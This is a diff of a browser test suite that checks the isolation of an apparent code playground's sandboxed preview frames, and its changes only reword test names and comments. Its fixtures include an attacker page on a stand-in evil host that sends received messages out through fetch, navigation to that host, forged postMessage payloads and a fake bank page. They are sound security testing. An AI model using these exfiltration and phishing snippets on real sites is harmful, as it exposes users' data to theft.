@@ -19,7 +19,7 @@ function saveProject(
   at.rig.projects.set(slug, { ...served, files: new Map(Object.entries(all)) });
 }
 
-/** A page of another site, which the rig answers at evil.localhost. It asks for /got when it hears anything. */
+/** A page of another site, served at evil.localhost. It requests /got when it receives a message. */
 const evilPage = `<!doctype html><title>evil</title><script>
   const tell = ({ data, source }) => source === self || fetch('/got?' + encodeURIComponent(JSON.stringify(data)));
   addEventListener('message', tell);
@@ -28,7 +28,7 @@ const evilPage = `<!doctype html><title>evil</title><script>
   parent.postMessage({ vitrine: 'hello', protocol: 1, shown: { kind: 'boot' }, path: '' }, '*', [port2]);
 </script>`;
 
-/** Says how many pages have met it, and speaks through a port that one of them leaves with it. */
+/** Shared worker that counts its pages and posts through a port that one of them passes to it. */
 const sharedWorker = `let met = 0; let left;
 onconnect = ({ ports: [page] }) => {
   page.onmessage = ({ data, ports }) => {
@@ -50,22 +50,22 @@ function answerEvil({ withoutFrameSource }: { withoutFrameSource: boolean }) {
   };
 }
 
-describe('what a preview can reach', () => {
-  it('SB-02 is no cookie of the app, in scripts or in requests', async () => {
+describe('what a preview can’t access', () => {
+  it('SB-02 the app’s cookies, in scripts and requests', async () => {
     await at.workspace.run({ files });
     expect(await at.workspace.inResult('document.cookie')).toBe('');
     await at.workspace.inResult(`fetch('/any')`);
     const own = at.rig.requests.filter(({ url }) => url.includes('draft--'));
     expect(own.length).toBeGreaterThan(1);
     expect(own.filter(({ cookie }) => cookie?.includes('session'))).toEqual([]);
-    // A session cookie for the whole domain, which the app must never set, would be seen.
+    // A session cookie for the whole domain, which the app must never set, would be visible.
     await at.context.addCookies([
       { name: 'session', value: 'x', domain: '.vitrine.localhost', path: '/' },
     ]);
     expect(await at.workspace.inResult('document.cookie')).toBe('session=x');
   });
 
-  it('SB-04 is no document of the app', async () => {
+  it('SB-04 the app’s document', async () => {
     await at.workspace.run({ files });
     for (const probe of ['parent.document', 'top.localStorage', 'parent.eval', 'parent.rig'])
       expect(
@@ -74,7 +74,7 @@ describe('what a preview can reach', () => {
         ),
       ).toBe('SecurityError');
     expect(await at.workspace.inResult('frameElement')).toBe(null);
-    // The same probe reaches a parent of the same origin.
+    // The same probe can access a same-origin parent.
     expect(
       await at.workspace.inResult(
         `(() => { const f = document.body.appendChild(document.createElement('iframe')); return f.contentWindow.eval('typeof parent.document') })()`,
@@ -82,7 +82,7 @@ describe('what a preview can reach', () => {
     ).toBe('object');
   });
 
-  it('SB-05 SB-06 is a frame that is not of the app, without top navigation, with a name', async () => {
+  it('SB-05 SB-06 the app’s origin and top navigation, from its titled frame', async () => {
     await at.workspace.run({ files });
     const frame = at.page.locator('iframe');
     expect(await frame.getAttribute('title')).toBe('Result');
@@ -95,7 +95,7 @@ describe('what a preview can reach', () => {
     );
   });
 
-  it('SB-05 is never of the app, also not when it is on its way out', async () => {
+  it('SB-05 the app’s origin, even while its frame is being removed', async () => {
     await at.workspace.run({ files });
     await at.page.evaluate(`{
       const frame = document.querySelector('iframe');
@@ -105,7 +105,7 @@ describe('what a preview can reach', () => {
     await at.workspace.until('rig.left', (left) => left === 'closed');
   });
 
-  it('SB-06 is not the address of the page around it', async () => {
+  it('SB-06 the URL of the app’s page', async () => {
     at.rig.tamper = answerEvil({ withoutFrameSource: false });
     await at.workspace.run({ files });
     const attempts = [
@@ -119,7 +119,7 @@ describe('what a preview can reach', () => {
     expect((await at.workspace.seen()).status).toBe('running');
     expect(at.page.url()).toBe(`${at.rig.appOrigin}/`);
     expect(evilRequests()).toEqual([]);
-    // With the flag it would go.
+    // With the sandbox flag it would navigate.
     await at.page.evaluate(`{
       const frame = document.querySelector('iframe');
       frame.sandbox.add('allow-top-navigation');
@@ -130,9 +130,9 @@ describe('what a preview can reach', () => {
     await poll(tryToGo, (address) => address === `${evil()}/e`, 'the page to be left', 10_000);
   });
 
-  it('SB-07 is no other site: it is stopped, noticed, and can be run again', async () => {
+  it('SB-07 another site: it is stopped, reported, and can be run again', async () => {
     at.rig.tamper = answerEvil({ withoutFrameSource: false });
-    // It leaves before it has loaded.
+    // It navigates before it has loaded.
     await at.workspace.run({
       files: { 'index.html': `<h1>One</h1><img src="${evil()}/endless">` },
     });
@@ -142,14 +142,14 @@ describe('what a preview can reach', () => {
     expect(evilRequests()).toEqual([]);
     await at.page.evaluate('preview.run()');
     await at.workspace.reach('running');
-    // Without the policy on the app's page it would get there.
+    // Without the policy of the app's page the navigation would succeed.
     at.rig.tamper = answerEvil({ withoutFrameSource: true });
     await at.workspace.run({ files });
     await at.workspace.inResult(`(() => { location = '${evil()}/?code' })()`);
     await at.workspace.until('1', () => evilRequests().length > 0);
   });
 
-  it('SB-08 is sent nothing once it is another page', async () => {
+  it('SB-08 messages after it has become another page', async () => {
     at.rig.tamper = answerEvil({ withoutFrameSource: true });
     await at.workspace.run({ files });
     await at.workspace.inResult(`(() => { location = '${evil()}/' })()`);
@@ -163,7 +163,7 @@ describe('what a preview can reach', () => {
     expect((await at.workspace.seen()).status).toBe('failed');
   });
 
-  it('SB-13 is nothing that another project stored, or says', async () => {
+  it('SB-13 storage and messages of another project', async () => {
     const databases = 'indexedDB.databases().then((all) => all.map(({ name }) => name).join())';
     const all = { ...files, 'shared.js': sharedWorker };
     await at.workspace.run({ files: all, key: 'draft--one' });
@@ -181,7 +181,7 @@ describe('what a preview can reach', () => {
     expect(await other.inResult(`caches.has('mark')`)).toBe(false);
     expect(await other.inResult(databases)).toBe('');
 
-    // A word to everyone of the same origin: the first project's other page hears it, the second not.
+    // A broadcast within the origin: the first project's other page receives it, the second project doesn't.
     const listen = `(() => { window.heard = []; new BroadcastChannel('mark').onmessage = () => heard.push(1) })()`;
     const same = new Workspace(await at.context.newPage(), at.rig);
     await same.run({ files: all, key: 'draft--one' });
@@ -191,14 +191,14 @@ describe('what a preview can reach', () => {
     expect(await other.inResult('heard.length')).toBe(0);
     expect(await same.inResult(marks)).toContain('one,mark=one');
 
-    // A worker that pages of one origin share counts whom it has met.
+    // A shared worker counts the pages of its origin.
     const meet = `new Promise((resolve) => { new SharedWorker('/shared.js').port.onmessage = ({ data }) => resolve(data) })`;
     expect(await at.workspace.inResult(meet)).toBe(1);
     expect(await same.inResult(meet)).toBe(2);
     expect(await other.inResult(meet)).toBe(1);
   });
 
-  it('SB-15 is no service worker but ours', async () => {
+  it('SB-15 service workers other than ours', async () => {
     const slug = 'registered';
     const all = { ...files, 'user.js': 'self.own = true' };
     saveProject(slug, 1, all);
@@ -224,23 +224,23 @@ describe('what a preview can reach', () => {
 
   const powers =
     'camera microphone geolocation display-capture payment publickey-credentials-get usb serial hid bluetooth midi idle-detection local-fonts storage-access clipboard-read window-management';
-  /** Of the features that this browser knows, those that a policy allows. */
+  /** Features of this browser that the policy allows. */
   const given = (policy: string) => `(() => {
     const policy = ${policy};
     const known = '${powers}'.split(' ').filter((name) => policy.features().includes(name));
     return known.length > 9 ? known.filter((name) => policy.allowsFeature(name)).join() : 'few are known';
   })()`;
 
-  it('SB-20 is no powerful feature, since its frame is given none', async () => {
+  it('SB-20 powerful features that its frame isn’t allowed', async () => {
     await at.workspace.run({ files });
-    // What any frame has, and only its document or its sandbox can refuse.
+    // Features that every frame has unless its document or sandbox denies them.
     const everybodys = 'storage-access';
     expect(await at.page.evaluate(given(`document.querySelector('iframe').featurePolicy`))).toBe(
       everybodys,
     );
   });
 
-  it('SB-20 is no powerful feature, whatever its frame is given', async () => {
+  it('SB-20 powerful features, even if its frame is allowed them', async () => {
     await at.context.grantPermissions(['geolocation', 'clipboard-read']);
     await at.context.setGeolocation({ latitude: 1, longitude: 1 });
     await at.workspace.run({ files });
@@ -259,8 +259,8 @@ describe('what a preview can reach', () => {
   });
 });
 
-describe('what others can do with a preview', () => {
-  it('SB-11 is not to make it the host of their own page', async () => {
+describe('what other sites can’t do with a preview', () => {
+  it('SB-11 embed it and act as its host', async () => {
     at.rig.tamper = answerEvil({ withoutFrameSource: false });
     const boot = `http://draft--one.vitrine.localhost:${at.rig.port}/__vitrine/boot`;
     const stranger = await at.context.newPage();
@@ -290,7 +290,7 @@ describe('what others can do with a preview', () => {
     expect(got()).toBe(0);
   });
 
-  it('SB-17 is not to pass it for a site of its own: a tab says whose it is, and runs nothing', async () => {
+  it('SB-17 present it as a site of its own: a tab shows its author and runs nothing', async () => {
     const slug = 'phishingsi';
     const html = '<!doctype html><title>Your bank</title><script>document.title = "ran"</script>';
     const credit = { title: 'Not a <b>bank', author: 'mallory' };
@@ -300,17 +300,17 @@ describe('what others can do with a preview', () => {
       await page.goto(`http://${host}.vitrine.localhost:${at.rig.port}/?x=1`);
       expect(await page.title()).toBe('Not a <b>bank');
       expect(await page.locator('main').innerText()).toContain('mallory made this page');
-      expect(await page.getByRole('link', { name: 'See its code' }).getAttribute('href')).toBe(
+      expect(await page.getByRole('link', { name: 'View the code' }).getAttribute('href')).toBe(
         `${at.rig.appOrigin}/p/${slug}`,
       );
-      await page.getByRole('link', { name: 'Show the page' }).click();
+      await page.getByRole('link', { name: 'Continue to the page' }).click();
       await page.waitForFunction('document.title === "ran"');
       expect(new URL(page.url()).search).toBe('?x=1');
       await page.close();
     }
   });
 
-  it('SB-17 leads a tab from a working copy to the app, unless the app shows it', async () => {
+  it('SB-17 open a live copy in a tab: it redirects to the app, unless the app shows it', async () => {
     await at.workspace.run({ files });
     await at.workspace.inResult(`navigator.serviceWorker.ready.then(() => {})`);
     const origin = `http://draft--one.vitrine.localhost:${at.rig.port}`;
@@ -326,8 +326,8 @@ describe('what others can do with a preview', () => {
     expect(await open()).toEqual({ title: 'App', address: `${at.rig.appOrigin}/draft/one` });
   });
 
-  it('SB-19 is not to open popups unasked, nor such as are freer than the preview', async () => {
-    // The driver's own browser lets every popup come.
+  it('SB-19 use it for popups without a click, or for popups without its sandbox', async () => {
+    // The driver's browser allows all popups.
     const browser = await startChromium(['--disable-popup-blocking']);
     try {
       const context = await browser.newContext();
@@ -337,7 +337,7 @@ describe('what others can do with a preview', () => {
       await workspace.run({ files: { 'index.html': unasked, 'two.html': two } });
       expect(await workspace.inResult('document.title')).toBe('null');
 
-      // As if somebody had clicked.
+      // Simulates a click.
       const freedom = async () => {
         const opened = context.waitForEvent('page');
         await workspace.inResult(`(() => { window.open('/two.html') })()`);
@@ -362,7 +362,7 @@ describe('what others can do with a preview', () => {
 describe('messages', () => {
   const forged = `{ vitrine: 'hello', protocol: 1, shown: { kind: 'run', run: 'x', version: 0 }, path: '' }`;
 
-  it('SB-09 from other windows change nothing, however many and whatever they hold', async () => {
+  it('SB-09 from other windows have no effect, whatever their number and content', async () => {
     at.rig.tamper = answerEvil({ withoutFrameSource: false });
     const stranger = await at.context.newPage();
     await stranger.goto(`${evil()}/`);
@@ -387,7 +387,7 @@ describe('messages', () => {
     expect([states.length, status, errors]).toEqual([before, 'running', []]);
   });
 
-  it('SB-10 from a frame within the preview are not believed, from the preview itself they are', async () => {
+  it('SB-10 from a frame within the preview are rejected, from the preview itself accepted', async () => {
     await at.workspace.run({ files });
     const before = (await at.workspace.seen()).states.length;
     const say = `top.postMessage({ vitrine: 'hello', protocol: 1, shown: { kind: 'saved', revision: 99 }, path: '' }, '${at.rig.appOrigin}', [new MessageChannel().port2])`;
@@ -400,13 +400,13 @@ describe('messages', () => {
     await at.workspace.inResult(`(() => { ${say} })()`);
     await at.workspace.seenUntil(
       ({ states }) => states.length > before,
-      'the hello to be believed',
+      'the hello to be accepted',
     );
   });
 });
 
-describe('a document that another took the place of', () => {
-  /** As user code can: it takes the port that our script speaks through, and hands it to a worker. */
+describe('a document that was replaced by another', () => {
+  /** User code that passes the port of our script to a worker. */
   const leavePort = `new Promise((resolve) => {
     const { postMessage } = MessagePort.prototype;
     let port;
@@ -426,7 +426,7 @@ describe('a document that another took the place of', () => {
   })`;
   const words = async () => (await at.workspace.seen()).lines.map(({ values }) => values[0]);
 
-  it('SB-10 is not believed any more, though its way to this page lives on', async () => {
+  it('SB-10 is no longer trusted, even if its port still works', async () => {
     const all = { ...files, 'shared.js': sharedWorker };
     await at.workspace.run({ files: all });
     const other = new Workspace(await at.context.newPage(), at.rig);
